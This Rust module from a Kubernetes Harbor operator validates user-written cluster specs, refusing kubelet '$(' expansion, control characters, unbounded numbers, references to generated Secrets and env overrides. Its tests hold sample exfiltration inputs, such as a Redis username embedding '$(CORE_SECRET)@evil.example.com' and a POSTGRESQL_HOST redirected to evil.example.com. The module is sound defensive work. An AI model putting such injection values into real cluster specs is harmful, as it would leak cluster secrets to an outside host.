//! What a HarborCluster author may not write, checked by the host before any plugin
//! runs (offline and in the operator alike). The author is trusted with their namespace,
//! not with the secrets Berth generates there, nor with what the kubelet and Harbor's
//! config files make of their text:
//!
//! - no `$(` anywhere: the kubelet expands `$(VAR)` in env values with the variables set
//!   before it, among them core's secret, the CSRF key and the passwords, so a spec string
//!   that reaches an env value (a Redis user name inside a URL, a proxy) could carry them
//!   to a host of the author's choosing;
//! - no control characters (DEL, C1, a BOM, line separators) and no string over
//!   [`MAX_STRING`]: spec strings are written into YAML, nginx and app.conf files;
//! - no reference to a Secret Berth generates (the data-encryption key would otherwise
//!   be one `existingSecret` away from an external "database host").

use serde_json::Value;

use crate::topology::SpecError;

/// The longest string a spec may hold (a CA bundle lives in a Secret, not the spec).
pub const MAX_STRING: usize = 4096;

/// Bounds on the spec's numbers, by field name: the CRD states them (see
/// [`crate::crd`]) and the host checks them again, so an offline render refuses what the
/// API server would. A number field not listed is held to [0, 2^31-1].
pub const NUMBER_BOUNDS: &[(&str, i64, i64)] = &[
    ("replicas", 0, 100),
    ("workers", 1, 100),
    ("loggerSweeperDays", 1, 3650),
    ("maxIdleConns", 0, 1000),
    ("maxOpenConns", 0, 10000),
    ("port", 1, 65535),
    ("httpPort", 1, 65535),
    ("httpsPort", 1, 65535),
    ("httpNodePort", 30000, 32767),
    ("httpsNodePort", 30000, 32767),
    ("authVersion", 1, 3),
    ("chunkSize", 5 << 20, 5 << 30),
    ("keep", 1, 1000),
];
const DEFAULT_NUMBER_BOUNDS: (i64, i64) = (0, i32::MAX as i64);

/// The bounds of a number field.
pub fn number_bounds(field: &str) -> (i64, i64) {
    NUMBER_BOUNDS.iter().find(|(name, _, _)| *name == field).map_or(DEFAULT_NUMBER_BOUNDS, |(_, min, max)| (*min, *max))
}

/// The longest list a spec may hold.
pub const MAX_ITEMS: usize = 256;

/// Spec fields that name a Secret: by their name's ending, or one of these exactly.
fn names_a_secret(field: &str) -> bool {
    field.ends_with("Secret") || field.ends_with("Secrets") || matches!(field, "adminPassword" | "githubToken" | "secretKeyRef")
}

/// Checks every string of the spec; `generated` are the Secrets Berth makes for it.
pub fn check(spec: &Value, generated: &[&str]) -> Result<(), SpecError> {
    walk(spec, "spec", generated)
}

fn walk(value: &Value, path: &str, generated: &[&str]) -> Result<(), SpecError> {
    match value {
        Value::String(text) => check_string(text, path),
        Value::Array(items) if items.len() > MAX_ITEMS => {
            Err(SpecError::new(path, format!("has {} items; at most {MAX_ITEMS} are allowed", items.len())))
        }
        Value::Array(items) => items.iter().enumerate().try_for_each(|(i, v)| walk(v, &format!("{path}[{i}]"), generated)),
        Value::Object(map) => {
            for (key, child) in map {
                let at = format!("{path}.{key}");
                if names_a_secret(key) {
                    check_secret_names(child, &at, generated)?;
                }
                // Numbers of Kubernetes types nested in the spec (env, resources, probes)
                // are theirs to bound; the spec's own are checked here.
                if let Value::Number(number) = child
                    && !path.contains(".env[")
                {
                    let (min, max) = number_bounds(key);
                    if !number.as_i64().is_some_and(|n| (min..=max).contains(&n)) {
                        return Err(SpecError::new(&at, format!("is {number}; it must be between {min} and {max}")));
                    }
                }
                walk(child, &at, generated)?;
            }
            Ok(())
        }
        _ => Ok(()),
    }
}

fn check_string(text: &str, path: &str) -> Result<(), SpecError> {
    if text.len() > MAX_STRING {
        return Err(SpecError::new(path, format!("is {} bytes long; at most {MAX_STRING} are allowed", text.len())));
    }
    if let Some(c) = text.chars().find(|c| c.is_control() || matches!(c, '\u{feff}' | '\u{2028}' | '\u{2029}')) {
        return Err(SpecError::new(
            path,
            format!("contains the control character U+{:04X}; spec text is written into config files", u32::from(c)),
        ));
    }
    if text.contains("$(") {
        return Err(SpecError::new(
            path,
            "contains \"$(\", which the kubelet would expand with the variables Berth sets (secrets among them)",
        ));
    }
    Ok(())
}

/// A Secret reference: a name, a list of names, or an object with a `name`.
fn check_secret_names(value: &Value, path: &str, generated: &[&str]) -> Result<(), SpecError> {
    let names: Vec<(String, &str)> = match value {
        Value::String(name) => vec![(path.to_owned(), name.as_str())],
        Value::Array(items) => items.iter().enumerate().filter_map(|(i, v)| v.as_str().map(|n| (format!("{path}[{i}]"), n))).collect(),
        Value::Object(map) => map.get("name").and_then(Value::as_str).map(|n| vec![(format!("{path}.name"), n)]).unwrap_or_default(),
        _ => Vec::new(),
    };
    for (at, name) in names {
        if generated.contains(&name) {
            return Err(SpecError::new(
                &at,
                format!("names {name}, a Secret Berth generates for this cluster; a spec may reference only Secrets of its own"),
            ));
        }
    }
    Ok(())
}

/// A component's `env` may add variables, never redefine one its plugin sets (a
/// redefined `POSTGRESQL_HOST` would send the database password elsewhere). A name set
/// twice in one container is such a redefinition; the error names the spec entry.
pub fn check_env_overrides(objects: &[serde_json::Map<String, Value>], spec: &Value) -> Result<(), SpecError> {
    for object in objects {
        for (_, pod) in crate::policy::pod_security::pod_specs(object) {
            for list in ["containers", "initContainers"] {
                for container in pod.get(list).and_then(Value::as_array).into_iter().flatten() {
                    let mut seen = std::collections::BTreeSet::new();
                    let env = container.get("env").and_then(Value::as_array).into_iter().flatten();
                    for name in env.filter_map(|e| e.get("name").and_then(Value::as_str)) {
                        if !seen.insert(name) {
                            let field = user_env_field(spec, "spec", name).unwrap_or_else(|| "spec".to_owned());
                            return Err(SpecError::new(
                                field,
                                format!("redefines {name}, which the component's plugin sets; env may only add variables"),
                            ));
                        }
                    }
                }
            }
        }
    }
    Ok(())
}

/// The path of the first `env` entry in the spec named `name`.
fn user_env_field(value: &Value, path: &str, name: &str) -> Option<String> {
    match value {
        Value::Object(map) => map.iter().find_map(|(key, child)| {
            let at = format!("{path}.{key}");
            if key == "env" {
                let entries = child.as_array().into_iter().flatten().enumerate();
                if let Some(found) = entries
                    .filter(|(_, e)| e.get("name").and_then(Value::as_str) == Some(name))
                    .map(|(i, _)| format!("{at}[{i}].name"))
                    .next()
                {
                    return Some(found);
                }
            }
            user_env_field(child, &at, name)
        }),
        Value::Array(items) => items.iter().enumerate().find_map(|(i, v)| user_env_field(v, &format!("{path}[{i}]"), name)),
        _ => None,
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use serde_json::json;

    fn field_of(spec: Value) -> Option<String> {
        check(&spec, &["demo-harbor-core", "demo-harbor-database"]).err().map(|e| e.field)
    }

    #[test]
    fn kubelet_expansion_is_refused_wherever_it_hides() {
        assert_eq!(
            field_of(json!({"redis": {"external": {"username": "u$(CORE_SECRET)@evil.example.com"}}})).as_deref(),
            Some("spec.redis.external.username")
        );
        assert_eq!(
            field_of(json!({"core": {"env": [{"name": "A", "value": "$(POSTGRESQL_PASSWORD)"}]}})).as_deref(),
            Some("spec.core.env[0].value")
        );
        assert_eq!(field_of(json!({"externalURL": "https://h.example.com/$(X)"})).as_deref(), Some("spec.externalURL"));
        assert_eq!(field_of(json!({"core": {"env": [{"name": "A", "value": "$5 and (x)"}]}})), None);
    }

    #[test]
    fn numbers_and_lists_are_bounded() {
        assert_eq!(field_of(json!({"jobservice": {"workers": 4294967295u64}})).as_deref(), Some("spec.jobservice.workers"));
        assert_eq!(field_of(json!({"jobservice": {"workers": 0}})).as_deref(), Some("spec.jobservice.workers"));
        assert_eq!(field_of(json!({"core": {"replicas": 3}, "jobservice": {"workers": 10}})), None);
        assert_eq!(field_of(json!({"core": {"replicas": -1}})).as_deref(), Some("spec.core.replicas"));
        assert_eq!(field_of(json!({"x": vec![1; MAX_ITEMS + 1]})).as_deref(), Some("spec.x"));
    }

    #[test]
    fn control_characters_and_huge_strings_are_refused() {
        for bad in ["a\u{7f}", "a\u{80}", "\u{feff}x", "a\nb", "a\u{2028}", "a\tb"] {
            assert_eq!(field_of(json!({"portal": {"image": bad}})).as_deref(), Some("spec.portal.image"), "{bad:?}");
        }
        assert!(field_of(json!({"x": "y".repeat(MAX_STRING + 1)})).is_some());
        assert_eq!(field_of(json!({"x": "ünïcødé is fine"})), None);
    }

    #[test]
    fn env_may_add_variables_but_not_redefine_the_plugins() {
        let object = |env: Value| -> serde_json::Map<String, Value> {
            let Value::Object(map) =
                json!({"kind": "Deployment", "spec": {"template": {"spec": {"containers": [{"name": "core", "env": env}]}}}})
            else {
                unreachable!()
            };
            map
        };
        let spec = json!({"core": {"env": [{"name": "EXTRA", "value": "1"}, {"name": "POSTGRESQL_HOST", "value": "evil.example.com"}]}});
        let redefined = object(
            json!([{"name": "POSTGRESQL_HOST", "value": "db"}, {"name": "EXTRA", "value": "1"}, {"name": "POSTGRESQL_HOST", "value": "evil.example.com"}]),
        );
        let err = check_env_overrides(&[redefined], &spec).err();
        assert_eq!(err.map(|e| e.field).as_deref(), Some("spec.core.env[1].name"));
        let added = object(json!([{"name": "POSTGRESQL_HOST", "value": "db"}, {"name": "EXTRA", "value": "1"}]));
        assert!(check_env_overrides(&[added], &spec).is_ok());
    }

    #[test]
    fn references_to_generated_secrets_are_refused() {
        let cases = [
            (
                json!({"database": {"external": {"passwordSecret": {"name": "demo-harbor-core", "key": "secretKey"}}}}),
                "spec.database.external.passwordSecret.name",
            ),
            (json!({"storage": {"s3": {"existingSecret": "demo-harbor-core"}}}), "spec.storage.s3.existingSecret"),
            (json!({"imageSource": {"pullSecrets": ["mine", "demo-harbor-database"]}}), "spec.imageSource.pullSecrets[1]"),
            (json!({"adminPassword": {"name": "demo-harbor-core", "key": "secret"}}), "spec.adminPassword.name"),
            (json!({"expose": {"tlsSecret": "demo-harbor-core"}}), "spec.expose.tlsSecret"),
            (
                json!({"core": {"env": [{"name": "X", "valueFrom": {"secretKeyRef": {"name": "demo-harbor-core", "key": "secretKey"}}}]}}),
                "spec.core.env[0].valueFrom.secretKeyRef.name",
            ),
        ];
        for (spec, field) in cases {
            assert_eq!(field_of(spec).as_deref(), Some(field));
        }
        assert_eq!(field_of(json!({"storage": {"s3": {"existingSecret": "my-s3"}}})), None);
    }
}
